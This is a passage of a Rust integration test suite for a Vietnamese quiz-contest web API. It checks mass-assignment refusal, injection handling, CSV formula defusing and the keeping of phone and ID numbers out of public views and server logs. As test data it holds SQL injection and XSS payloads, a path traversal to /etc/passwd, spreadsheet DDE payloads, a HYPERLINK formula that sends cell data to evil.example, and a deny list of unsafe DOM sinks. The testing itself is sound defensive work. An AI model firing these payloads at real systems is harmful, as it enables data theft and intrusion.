        ("status", json!("published")),
        ("published_at", long_ago.clone()),
        ("created_by", json!(Uuid::now_v7())),
        ("bank_version", json!(99)),
    ] {
        cases.push((
            Method::POST,
            "/api/v1/contests".to_owned(),
            with(&contest, field, &value),
            field,
        ));
        cases.push((
            Method::PATCH,
            format!("/api/v1/contests/{c}"),
            json!({field: value}),
            field,
        ));
    }
    for (field, value) in [
        ("id", json!(Uuid::now_v7())),
        ("contest_id", elsewhere.clone()),
        ("state", json!("finalized")),
        ("finalized_at", long_ago.clone()),
        ("closed_early_at", long_ago.clone()),
        ("actual_value", json!(1)),
        ("entries", json!(1000)),
    ] {
        cases.push((
            Method::POST,
            format!("/api/v1/contests/{c}/rounds"),
            with(&round, field, &value),
            field,
        ));
        cases.push((
            Method::PATCH,
            format!("/api/v1/rounds/{r}"),
            json!({field: value}),
            field,
        ));
    }
    for (field, value) in [
        ("id", json!(Uuid::now_v7())),
        ("contest_id", elsewhere.clone()),
        ("revision", json!(7)),
        ("position", json!(0)),
        ("created_at", long_ago.clone()),
    ] {
        cases.push((
            Method::POST,
            format!("/api/v1/contests/{c}/questions"),
            with(&question, field, &value),
            field,
        ));
        cases.push((
            Method::PATCH,
            format!("/api/v1/questions/{q}"),
            json!({field: value}),
            field,
        ));
    }
    let before = (snapshot(&app, &mine).await, snapshot(&app, &other).await);
    for (method, path, body, field) in cases {
        let reply = probe(&app, method, &path, Some(&mine.organiser), Some(&body)).await;
        reply.assert_refused(422, "validation_failed");
        assert!(
            reply.json()["errors"][field].is_array(),
            "{}: {}",
            reply.what,
            reply.body
        );
    }
    assert_eq!(
        (snapshot(&app, &mine).await, snapshot(&app, &other).await),
        before
    );
    let contests: Vec<(String, bool)> =
        sqlx::query_as("SELECT slug, published_at IS NOT NULL FROM contests ORDER BY slug")
            .fetch_all(&app.db.pool)
            .await
            .expect("contests");
    assert_eq!(
        contests,
        [
            ("cua-khac".to_owned(), false),
            ("cua-toi".to_owned(), false)
        ]
    );

    // An option's id is the server's: one borrowed from another contest is refused or ignored.
    let borrowed = &other.options[0];
    let reply = probe(
        &app,
        Method::POST,
        &format!("/api/v1/contests/{c}/questions"),
        Some(&mine.organiser),
        Some(&json!({"text": "Mượn mã?", "options": [
            {"id": borrowed, "text": "a", "correct": true}, {"text": "b", "correct": false}]})),
    )
    .await;
    match reply.status {
        201 => {
            let created = reply.json();
            assert_eq!(created["contest_id"], json!(c));
            for option in created["options"].as_array().expect("options") {
                assert!(
                    !other.options.contains(&text(&option["id"])),
                    "{}",
                    reply.body
                );
            }
        }
        _ => reply.assert_refused(422, "validation_failed"),
    }
    assert_eq!(
        snapshot(&app, &other).await,
        before.1,
        "the other bank is untouched"
    );
}

// ---------------------------------------------------------------------------------------
// 4. Injection and script payloads

const PAYLOADS: [&str; 5] = [
    "'; DROP TABLE accounts; --",
    "' OR '1'='1",
    "Robert'); DROP TABLE attempts;--",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
];

/// `field` of `value` is `expected`, and the raw body holds it as that exact JSON string.
fn assert_stored(reply: &Reply, value: &Value, expected: &str) {
    assert_eq!(value, &json!(expected), "{}: {}", reply.what, reply.body);
    let encoded = serde_json::to_string(expected).expect("JSON");
    assert!(
        reply.body.contains(&encoded),
        "{} holds {encoded} as is: {}",
        reply.what,
        reply.body
    );
}

#[tokio::test]
async fn hostile_text_in_every_field_is_stored_and_returned_as_the_same_json_string() {
    let app = spawn_app().await;
    let unit_organiser = app.staff("organizer", "don-vi@example.org").await;
    let mut csv = String::from("code,name,parent_code,member_count\n");
    for (k, payload) in PAYLOADS.iter().enumerate() {
        csv.push_str(&format!(
            "U{k},\"Đơn vị {}\",,10\n",
            payload.replace('"', "\"\"")
        ));
    }
    let imported = app
        .api
        .post(app.url("/api/v1/units/import"))
        .bearer_auth(&unit_organiser)
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .expect("units");
    assert_eq!(imported.status().as_u16(), 200);

    for (k, payload) in PAYLOADS.iter().enumerate() {
        let stage = stage(&app, &format!("tiem-{k}"), payload, true).await;
        let registered = app
            .post_json(
                "/api/v1/auth/register",
                &json!({"phone": format!("091200000{k}"), "full_name": format!("Hội viên {payload}"),
                        "password": MEMBER_PASSWORD, "address": format!("Địa chỉ {payload}"),
                        "unit_code": format!("U{k}")}),
            )
            .await;
        assert_eq!(registered.status().as_u16(), 201, "{payload}");
        let registered: Value = registered.json().await.expect("JSON");
        let token = text(&registered["access_token"]);
        let name = format!("Hội viên {payload}");
        let unit = format!("Đơn vị {payload}");

        let contest = read(&app, &format!("/api/v1/contests/{}", stage.slug), None).await;
        let body = contest.json();
        assert_stored(&contest, &body["title"], &format!("Cuộc thi {payload}"));
        assert_stored(&contest, &body["description"], &format!("Mô tả {payload}"));
        assert_stored(&contest, &body["rules"], &format!("Thể lệ {payload}"));
        let round = read(&app, &format!("/api/v1/rounds/{}", stage.round), None).await;
        let body = round.json();
        assert_stored(&round, &body["title"], &format!("Tuần 1 {payload}"));
        assert_stored(
            &round,
            &body["prediction"]["prompt"],
            &format!("Bao nhiêu lượt dự thi? {payload}"),
        );
        assert_stored(
            &round,
            &body["prizes"][0]["name"],
            &format!("Giải Nhất {payload}"),
        );
        let question = read(
            &app,
            &format!("/api/v1/questions/{}", stage.question()),
            Some(&stage.organiser),
        )
        .await;
        let body = question.json();
        assert_stored(&question, &body["category"], &format!("Chủ đề {payload}"));
        assert!(
            text(&body["explanation"]).ends_with(&format!(" {payload}")),
            "{}",
            question.body
        );

        let started = probe(
            &app,
            Method::POST,
            &format!("/api/v1/rounds/{}/attempts", stage.round),
            Some(&token),
            None,
        )
        .await;
        assert_eq!(started.status, 201, "{}", started.body);
        let attempt = started.json();
        assert_stored(
            &started,
            &attempt["prediction_prompt"],
            &format!("Bao nhiêu lượt dự thi? {payload}"),
        );
        let first = &attempt["questions"][0];
        assert!(
            text(&first["text"]).starts_with("Câu hỏi ") && text(&first["text"]).ends_with(payload)
        );
        for option in first["options"].as_array().expect("options") {
            let shown = text(&option["text"]);
            assert!(shown.ends_with(&format!(" {payload}")), "{shown}");
            assert!(
                started
                    .body
                    .contains(&serde_json::to_string(&shown).expect("JSON"))
            );
        }
        submit_right(&app, &token, &stage, &attempt).await;

        let me = read(&app, "/api/v1/me", Some(&token)).await;
        let body = me.json();
        assert_stored(&me, &body["full_name"], &name);
        assert_stored(&me, &body["address"], &format!("Địa chỉ {payload}"));
        assert_stored(&me, &body["unit"]["name"], &unit);
        let history = read(&app, "/api/v1/me/attempts", Some(&token)).await;
        let body = history.json();
        assert_stored(
            &history,
            &body["items"][0]["round_title"],
            &format!("Tuần 1 {payload}"),
        );
        let board = read(
            &app,
            &format!("/api/v1/rounds/{}/leaderboard", stage.round),
            None,
        )
        .await;
        let body = board.json();
        assert_stored(&board, &body["items"][0]["display_name"], &name);
        assert_stored(&board, &body["items"][0]["unit"], &unit);
        let ranking = read(
            &app,
            &format!("/api/v1/contests/{}/units/ranking", stage.slug),
            None,
        )
        .await;
        let body = ranking.json();
        assert_stored(&ranking, &body["items"][0]["name"], &unit);
        let units = read(&app, "/api/v1/units?limit=500", None).await;
        let listed = units.json()["items"]
            .as_array()
            .expect("items")
            .iter()
            .find(|u| u["code"] == format!("U{k}"))
            .expect("the unit")["name"]
            .clone();
        assert_stored(&units, &listed, &unit);
    }

    // The hostile logins find nobody.
    for payload in PAYLOADS {
        let reply = probe(
            &app,
            Method::POST,
            "/api/v1/auth/login",
            None,
            Some(&json!({"login": payload, "password": payload})),
        )
        .await;
        reply.assert_refused(401, "invalid_credentials");
    }
    // Every table is still there and holds what it should.
    let tables: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public' \
         AND table_name IN ('accounts', 'units', 'contests', 'rounds', 'questions', 'attempts', 'audit_log')",
    )
    .fetch_one(&app.db.pool)
    .await
    .expect("tables");
    assert_eq!(tables, 7);
    let (accounts, attempts): (i64, i64) = sqlx::query_as(
        "SELECT (SELECT count(*) FROM accounts WHERE role = 'member'), (SELECT count(*) FROM attempts)",
    )
    .fetch_one(&app.db.pool)
    .await
    .expect("counts");
    assert_eq!((accounts, attempts), (5, 5));

    // The page is the same static page whatever is stored.
    let page = app.get("/").await.text().await.expect("page");
    for payload in PAYLOADS {
        assert!(!page.contains(payload), "the page echoes {payload}");
    }
    assert!(!page.contains("onerror") && !page.contains("alert(1)"));
}

#[tokio::test]
async fn the_web_app_puts_server_text_into_the_page_only_as_text() {
    let app = spawn_app().await;
    let page = app.get("/").await.text().await.expect("page");
    let script = page
        .split('"')
        .find(|part| part.starts_with("/assets/") && part.ends_with(".js"))
        .expect("the page names its script")
        .to_owned();
    let script = app.get(&script).await.text().await.expect("script");
    assert!(script.contains(".textContent"), "the app writes text");
    // Each of these would turn a stored `<img onerror=…>` into markup or code.
    for sink in [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "createContextualFragment",
        "eval(",
        "new Function",
        "setTimeout(\"",
    ] {
        assert!(!script.contains(sink), "the app uses {sink}");
    }
}

#[tokio::test]
async fn ids_and_query_values_that_are_not_what_they_should_be_are_400_or_404_never_500() {
    let app = spawn_app().await;
    let stage = stage(&app, "dau-vao-la", "lạ", true).await;
    let token = app.member_token("0912345678").await;
    let (c, r) = (&stage.slug, &stage.round);
    let not_found = [
        "/api/v1/attempts/not-a-uuid".to_owned(),
        "/api/v1/attempts/1' OR '1'='1".to_owned(),
        "/api/v1/attempts/'; DROP TABLE attempts; --".to_owned(),
        "/api/v1/attempts/<script>alert(1)</script>".to_owned(),
        format!("/api/v1/attempts/{}", Uuid::nil()),
        format!("/api/v1/attempts/{r}"),
        "/api/v1/rounds/' OR '1'='1/leaderboard".to_owned(),
        "/api/v1/rounds/12345/leaderboard/me".to_owned(),
        format!("/api/v1/rounds/{}", Uuid::max()),
        "/api/v1/contests/' OR '1'='1".to_owned(),
        "/api/v1/contests/'; DROP TABLE contests; --/rounds".to_owned(),
        "/api/v1/contests/%27%20OR%201%3D1%20--/leaderboard".to_owned(),
        "/api/v1/questions/..%2F..%2Fetc%2Fpasswd".to_owned(),
        "/api/v1/units?parent=' OR '1'='1".to_owned(),
        "/api/v1/rounds/not-a-round/winners/public".to_owned(),
    ];
    for path in not_found {
        probe(&app, Method::GET, &path, Some(&token), None)
            .await
            .assert_refused(404, "not_found");
    }
    let post_start = probe(
        &app,
        Method::POST,
        "/api/v1/rounds/' OR '1'='1/attempts",
        Some(&token),
        None,
    )
    .await;
    post_start.assert_refused(404, "not_found");
    let bad_query = [
        (
            "/api/v1/me/attempts?round=' OR '1'='1".to_owned(),
            token.as_str(),
        ),
        (
            "/api/v1/me/attempts?limit=1;DROP TABLE attempts".to_owned(),
            token.as_str(),
        ),
        (
            "/api/v1/contests?limit=99999999999999999999".to_owned(),
            token.as_str(),
        ),
        (
            format!("/api/v1/contests/{c}/units/ranking?by=' OR 1=1"),
            token.as_str(),
        ),
        (
            format!("/api/v1/contests/{c}/units/ranking?round=<script>"),
            token.as_str(),
        ),
        (
            format!("/api/v1/rounds/{r}/leaderboard?offset='; DROP TABLE rounds; --"),
            token.as_str(),
        ),
        (
            format!("/api/v1/rounds/{r}/results?format=<script>alert(1)</script>"),
            stage.judge.as_str(),
        ),
        (
            format!("/api/v1/contests/{c}/questions?format=' OR '1'='1"),
            stage.organiser.as_str(),
        ),
    ];
    for (path, who) in bad_query {
        probe(&app, Method::GET, &path, Some(who), None)
            .await
            .assert_refused(400, "invalid_query");
    }
    let tables: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public' \
         AND table_name IN ('accounts', 'contests', 'rounds', 'attempts')",
    )
    .fetch_one(&app.db.pool)
    .await
    .expect("tables");
    assert_eq!(tables, 4);
}

#[tokio::test]
async fn a_formula_in_a_members_name_is_defused_in_the_judges_csv_exports() {
    let app = app_without_grace().await;
    let stage = stage(&app, "cong-thuc", "công thức", true).await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?p=\"&D2,\"Nhận giải\")",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for (i, name) in names.iter().enumerate() {
        let registered = app
            .post_json(
                "/api/v1/auth/register",
                &json!({"phone": format!("091300000{i}"), "full_name": name, "password": MEMBER_PASSWORD}),
            )
            .await;
        assert_eq!(registered.status().as_u16(), 201, "{name}");
        let registered: Value = registered.json().await.expect("JSON");
        let token = text(&registered["access_token"]);
        let attempt = start(&app, &token, &stage).await;
        submit_right(&app, &token, &stage, &attempt).await;
    }
    close_and_finalize(&app, &stage).await;

    // JSON is data: the names come back exactly.
    let results = app
        .expect(
            200,
            Method::GET,
            &format!("/api/v1/rounds/{}/results", stage.round),
            Some(&stage.judge),
            None,
        )
        .await;
    let mut listed: Vec<String> = results["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|row| text(&row["full_name"]))
        .collect();
    listed.sort();
    let mut expected: Vec<String> = names.iter().map(|n| (*n).to_owned()).collect();
    expected.sort();
    assert_eq!(listed, expected);

    // A spreadsheet must not run them: no cell may start with = + - @.
    for (path, name_column, rows) in [
        (
            format!("/api/v1/rounds/{}/results?format=csv", stage.round),
            2,
            names.len(),
        ),
        (
            format!("/api/v1/rounds/{}/winners?format=csv", stage.round),
            2,
            1,
        ),
        (
            format!("/api/v1/contests/{}/winners?format=csv", stage.slug),
            3,
            1,
        ),
    ] {
        let reply = probe(&app, Method::GET, &path, Some(&stage.judge), None).await;
        assert_eq!(reply.status, 200, "{}: {}", reply.what, reply.body);
        let mut reader = csv::ReaderBuilder::new().from_reader(reply.body.as_bytes());
        let records: Vec<csv::StringRecord> = reader
            .records()
            .collect::<Result<_, _>>()
            .expect("a CSV file");
        assert_eq!(records.len(), rows, "{}", reply.body);
        for record in &records {
            let cell = record.get(name_column).expect("the name column");
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "{path}: the cell {cell:?} runs as a formula"
            );
            assert!(
                names
                    .iter()
                    .any(|n| cell.trim_start() == *n || cell.ends_with(n)),
                "{path}: {cell:?} is still the name"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// 5. Personal data

/// The forms a stored `+84…` phone can take in text, the national digits included.
fn phone_forms(e164: &str) -> [String; 3] {
    let national = &e164[3..];
    [e164.to_owned(), format!("0{national}"), national.to_owned()]
}

#[tokio::test]
async fn phones_and_id_numbers_never_reach_public_views_or_other_members() {
    let app = app_without_grace().await;
    let stage = stage(&app, "rieng-tu", "riêng tư", true).await;
    let organiser = stage.organiser.clone();
    let units = app
        .api
        .post(app.url("/api/v1/units/import"))
        .bearer_auth(&organiser)
        .header("content-type", "text/csv")
        .body("code,name,parent_code,member_count\nBD,Ba Đình,,40\n")
        .send()
        .await
        .expect("units");
    assert_eq!(units.status().as_u16(), 200);
    let mut people = Vec::new();
    for (phone, id_number) in [
        ("0987650123", "001190012345"),
        ("0356781234", "079185054321"),
    ] {
        let registered = app
            .post_json(
                "/api/v1/auth/register",
                &json!({"phone": phone, "full_name": "Nguyễn Thị Lan", "password": MEMBER_PASSWORD,
                        "id_number": id_number, "unit_code": "BD"}),
            )
            .await;
        assert_eq!(registered.status().as_u16(), 201);
        let registered: Value = registered.json().await.expect("JSON");
        let token = text(&registered["access_token"]);
        let attempt = start(&app, &token, &stage).await;
        submit_right(&app, &token, &stage, &attempt).await;
        let mut secrets = phone_forms(&text(&registered["member"]["phone"])).to_vec();
        secrets.push(id_number.to_owned());
        people.push((token, text(&attempt["id"]), secrets));
    }
    let (lan, hoa) = (&people[0], &people[1]);
    let live = [
        read(
            &app,
            &format!("/api/v1/rounds/{}/leaderboard", stage.round),
            None,
        )
        .await,
        read(
            &app,
            &format!("/api/v1/contests/{}/leaderboard", stage.slug),
            None,
        )
        .await,
    ];
    close_and_finalize(&app, &stage).await;

    let mut public: Vec<Reply> = live.into_iter().collect();
    public.extend(member_reads(&app, &stage, None).await);
    public.push(
        read(
            &app,
            &format!("/api/v1/rounds/{}/winners/public", stage.round),
            None,
        )
        .await,
    );
    // What Hòa reads: everything public, her own profile, history and attempt.
    let mut as_hoa = member_reads(&app, &stage, Some(&hoa.0)).await;
    as_hoa.push(read(&app, &format!("/api/v1/attempts/{}", hoa.1), Some(&hoa.0)).await);
    as_hoa.push(
        read(
            &app,
            &format!("/api/v1/rounds/{}/winners/public", stage.round),
            Some(&hoa.0),
        )
        .await,
    );
    let leaks = |replies: &[Reply], secrets: &[String]| -> Vec<String> {
        replies
            .iter()
            .flat_map(|r| {
                secrets
                    .iter()
                    .filter(|s| r.body.contains(s.as_str()))
                    .map(|s| format!("{} shows {s}: {}", r.what, r.body))
            })
            .collect()
    };
    let everyone: Vec<String> = lan.2.iter().chain(&hoa.2).cloned().collect();
    assert_eq!(leaks(&public, &everyone), Vec::<String>::new());
    assert_eq!(leaks(&as_hoa, &lan.2), Vec::<String>::new());
    // The scan would see them: the judges' results hold both.
    let results = read(
        &app,
        &format!("/api/v1/rounds/{}/results", stage.round),
        Some(&stage.judge),
    )
    .await;
    for secret in lan
        .2
        .iter()
        .chain(&hoa.2)
        .filter(|s| s.starts_with('+') || s.len() == 12)
    {
        assert!(results.body.contains(secret.as_str()), "{secret}");
    }
    let winners: Value = public.last().expect("public winners").json();
    assert!(
        winners["items"][0]["phone_masked"]
            .as_str()
            .is_some_and(|m| m.contains("****")),
        "{winners}"
    );
}

/// `hoithi serve` as a child process, its stdout and stderr gathered.
struct Server {
    child: std::process::Child,
    port: u16,
    output: Arc<Mutex<String>>,
    readers: Vec<std::thread::JoinHandle<()>>,
}

impl Server {
    fn start(env: &HashMap<String, String>) -> Self {
        let mut child = Command::new(env!("CARGO_BIN_EXE_hoithi"))
            .arg("serve")
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .envs(env)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawning hoithi serve");
        let output = Arc::new(Mutex::new(String::new()));
        let (tx, rx) = std::sync::mpsc::channel();
        let stdout = child.stdout.take().expect("piped stdout");
        let lines = output.clone();
        let out = std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if let Ok(event) = serde_json::from_str::<Value>(&line)
                    && event["message"] == "hoithi listening"
                {
                    let _ = tx.send(event["port"].as_u64());
                }
                let mut all = lines.lock().expect("output");
                all.push_str(&line);
                all.push('\n');
            }
        });
        let mut stderr = child.stderr.take().expect("piped stderr");
        let lines = output.clone();
        let err = std::thread::spawn(move || {
            let mut text = String::new();
            let _ = stderr.read_to_string(&mut text);
            lines.lock().expect("output").push_str(&text);
        });
        let port = rx
            .recv_timeout(std::time::Duration::from_secs(30))
            .expect("the server logged its port")
            .and_then(|p| u16::try_from(p).ok())
            .expect("a port number");
        Self {
            child,
            port,
            output,
            readers: vec![out, err],
        }
    }

    /// Stops the server (SIGTERM to this child, by its id) and answers all it wrote.
    fn stop(mut self) -> String {
        let pid = nix::unistd::Pid::from_raw(i32::try_from(self.child.id()).expect("pid"));
        let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM);
        let started = std::time::Instant::now();
        while self.child.try_wait().expect("try_wait").is_none() {
            if started.elapsed() > std::time::Duration::from_secs(15) {
                let _ = self.child.kill();
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let _ = self.child.wait();
        for reader in self.readers.drain(..) {
            let _ = reader.join();
        }
        let output = self.output.lock().expect("output");
        output.clone()
    }
}

/// Sends `body` to the child server and answers the status.
async fn send_to(
    client: &reqwest::Client,
    port: u16,
    method: Method,
    path: &str,
    token: Option<&str>,
    body: &Value,
) -> u16 {
    let mut request = client
        .request(method, format!("http://127.0.0.1:{port}{path}"))
        .json(body);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await.expect("request").status().as_u16()
}

#[tokio::test]
async fn phones_and_id_numbers_never_reach_the_server_logs() {
    let db = TestDatabase::create().await;
    let prefix = format!("hoithi_test:{}:", Uuid::new_v4().simple());
    let env = test_env(&db.url, &prefix);
    let server = tokio::task::spawn_blocking(move || Server::start(&env))
        .await
        .expect("starting the server");
    let port = server.port;
    let client = reqwest::Client::new();
    let register = |phone: Value, id_number: &str| json!({"phone": phone, "full_name": "Trần Thị Lan", "password": MEMBER_PASSWORD, "id_number": id_number});
    let post = |path: &'static str, body: Value, token: Option<String>| {
        let client = client.clone();
        async move { send_to(&client, port, Method::POST, path, token.as_deref(), &body).await }
    };
    let registered: Value = client
        .post(format!("http://127.0.0.1:{port}/api/v1/auth/register"))
        .json(&register(json!("0987650123"), "001190012345"))
        .send()
        .await
        .expect("register")
        .json()
        .await
        .expect("JSON");
    let token = text(&registered["access_token"]);
    let statuses = vec![
        // The same phone again, in another form; the same ID number with another phone.
        post(
            "/api/v1/auth/register",
            register(json!("+84 987 650 123"), "001190099999"),
            None,
        )
        .await,
        post(
            "/api/v1/auth/register",
            register(json!("0987650456"), "001190012345"),
            None,
        )
        .await,
        // A landline, and an ID number of the wrong length.
        post(
            "/api/v1/auth/register",
            register(json!("024 3825 1234"), "0011900123"),
            None,
        )
        .await,
        post(
            "/api/v1/auth/login",
            json!({"login": "0987650123", "password": MEMBER_PASSWORD}),
            None,
        )
        .await,
        post(
            "/api/v1/auth/login",
            json!({"login": "0987.650.123", "password": "not the password"}),
            None,
        )
        .await,
        post(
            "/api/v1/auth/login",
            json!({"login": "0987650999", "password": "not the password"}),
            None,
        )
        .await,
        send_to(
            &client,
            port,
            Method::PATCH,
            "/api/v1/me",
            Some(&token),
            &json!({"id_number": "001190012345", "phone": "0987650123"}),
        )
        .await,
    ];
    assert_eq!(statuses, [409, 409, 422, 200, 401, 401, 422]);
    let logs = tokio::task::spawn_blocking(move || server.stop())
        .await
        .expect("stopping the server");
    // The refusals are logged, so a leak would have had its chance.
    assert!(
        logs.contains("phone_taken") || logs.contains("invalid_credentials"),
        "client errors are logged: {logs}"
    );
    for secret in [
        "987650123",
        "987.650.123",
        "987 650 123",
        "987650456",
        "987650999",
        "001190012345",
        "001190099999",
        "0011900123",
        "38251234",
        "3825 1234",
    ] {
        assert!(!logs.contains(secret), "the logs hold {secret}:\n{logs}");
    }
}

#[tokio::test]
async fn a_phone_sent_as_a_json_number_is_not_echoed_into_the_logs() {
    let db = TestDatabase::create().await;
    let prefix = format!("hoithi_test:{}:", Uuid::new_v4().simple());
    let env = test_env(&db.url, &prefix);
    let server = tokio::task::spawn_blocking(move || Server::start(&env))
        .await
        .expect("starting the server");
    let client = reqwest::Client::new();
    // A careless client sends digits as numbers: refused, and the number must not be logged.
    let statuses = [
        send_to(
            &client,
            server.port,
            Method::POST,
            "/api/v1/auth/register",
            None,
            &json!({"phone": 987650123_u64, "full_name": "Lan", "password": MEMBER_PASSWORD}),
        )
        .await,
        send_to(
            &client,
            server.port,
            Method::POST,
            "/api/v1/auth/register",
            None,
            &json!({"phone": "0987650123", "full_name": "Lan", "password": MEMBER_PASSWORD,
                    "id_number": 1_190_012_345_u64}),
        )
        .await,
        send_to(
            &client,
            server.port,
            Method::POST,
            "/api/v1/auth/login",
            None,
            &json!({"login": 987650123_u64, "password": MEMBER_PASSWORD}),
        )
        .await,
    ];
    assert_eq!(statuses, [422, 422, 422]);
    let logs = tokio::task::spawn_blocking(move || server.stop())
        .await
        .expect("stopping the server");
    for secret in ["987650123", "1190012345"] {
        assert!(!logs.contains(secret), "the logs hold {secret}:\n{logs}");
    }
}
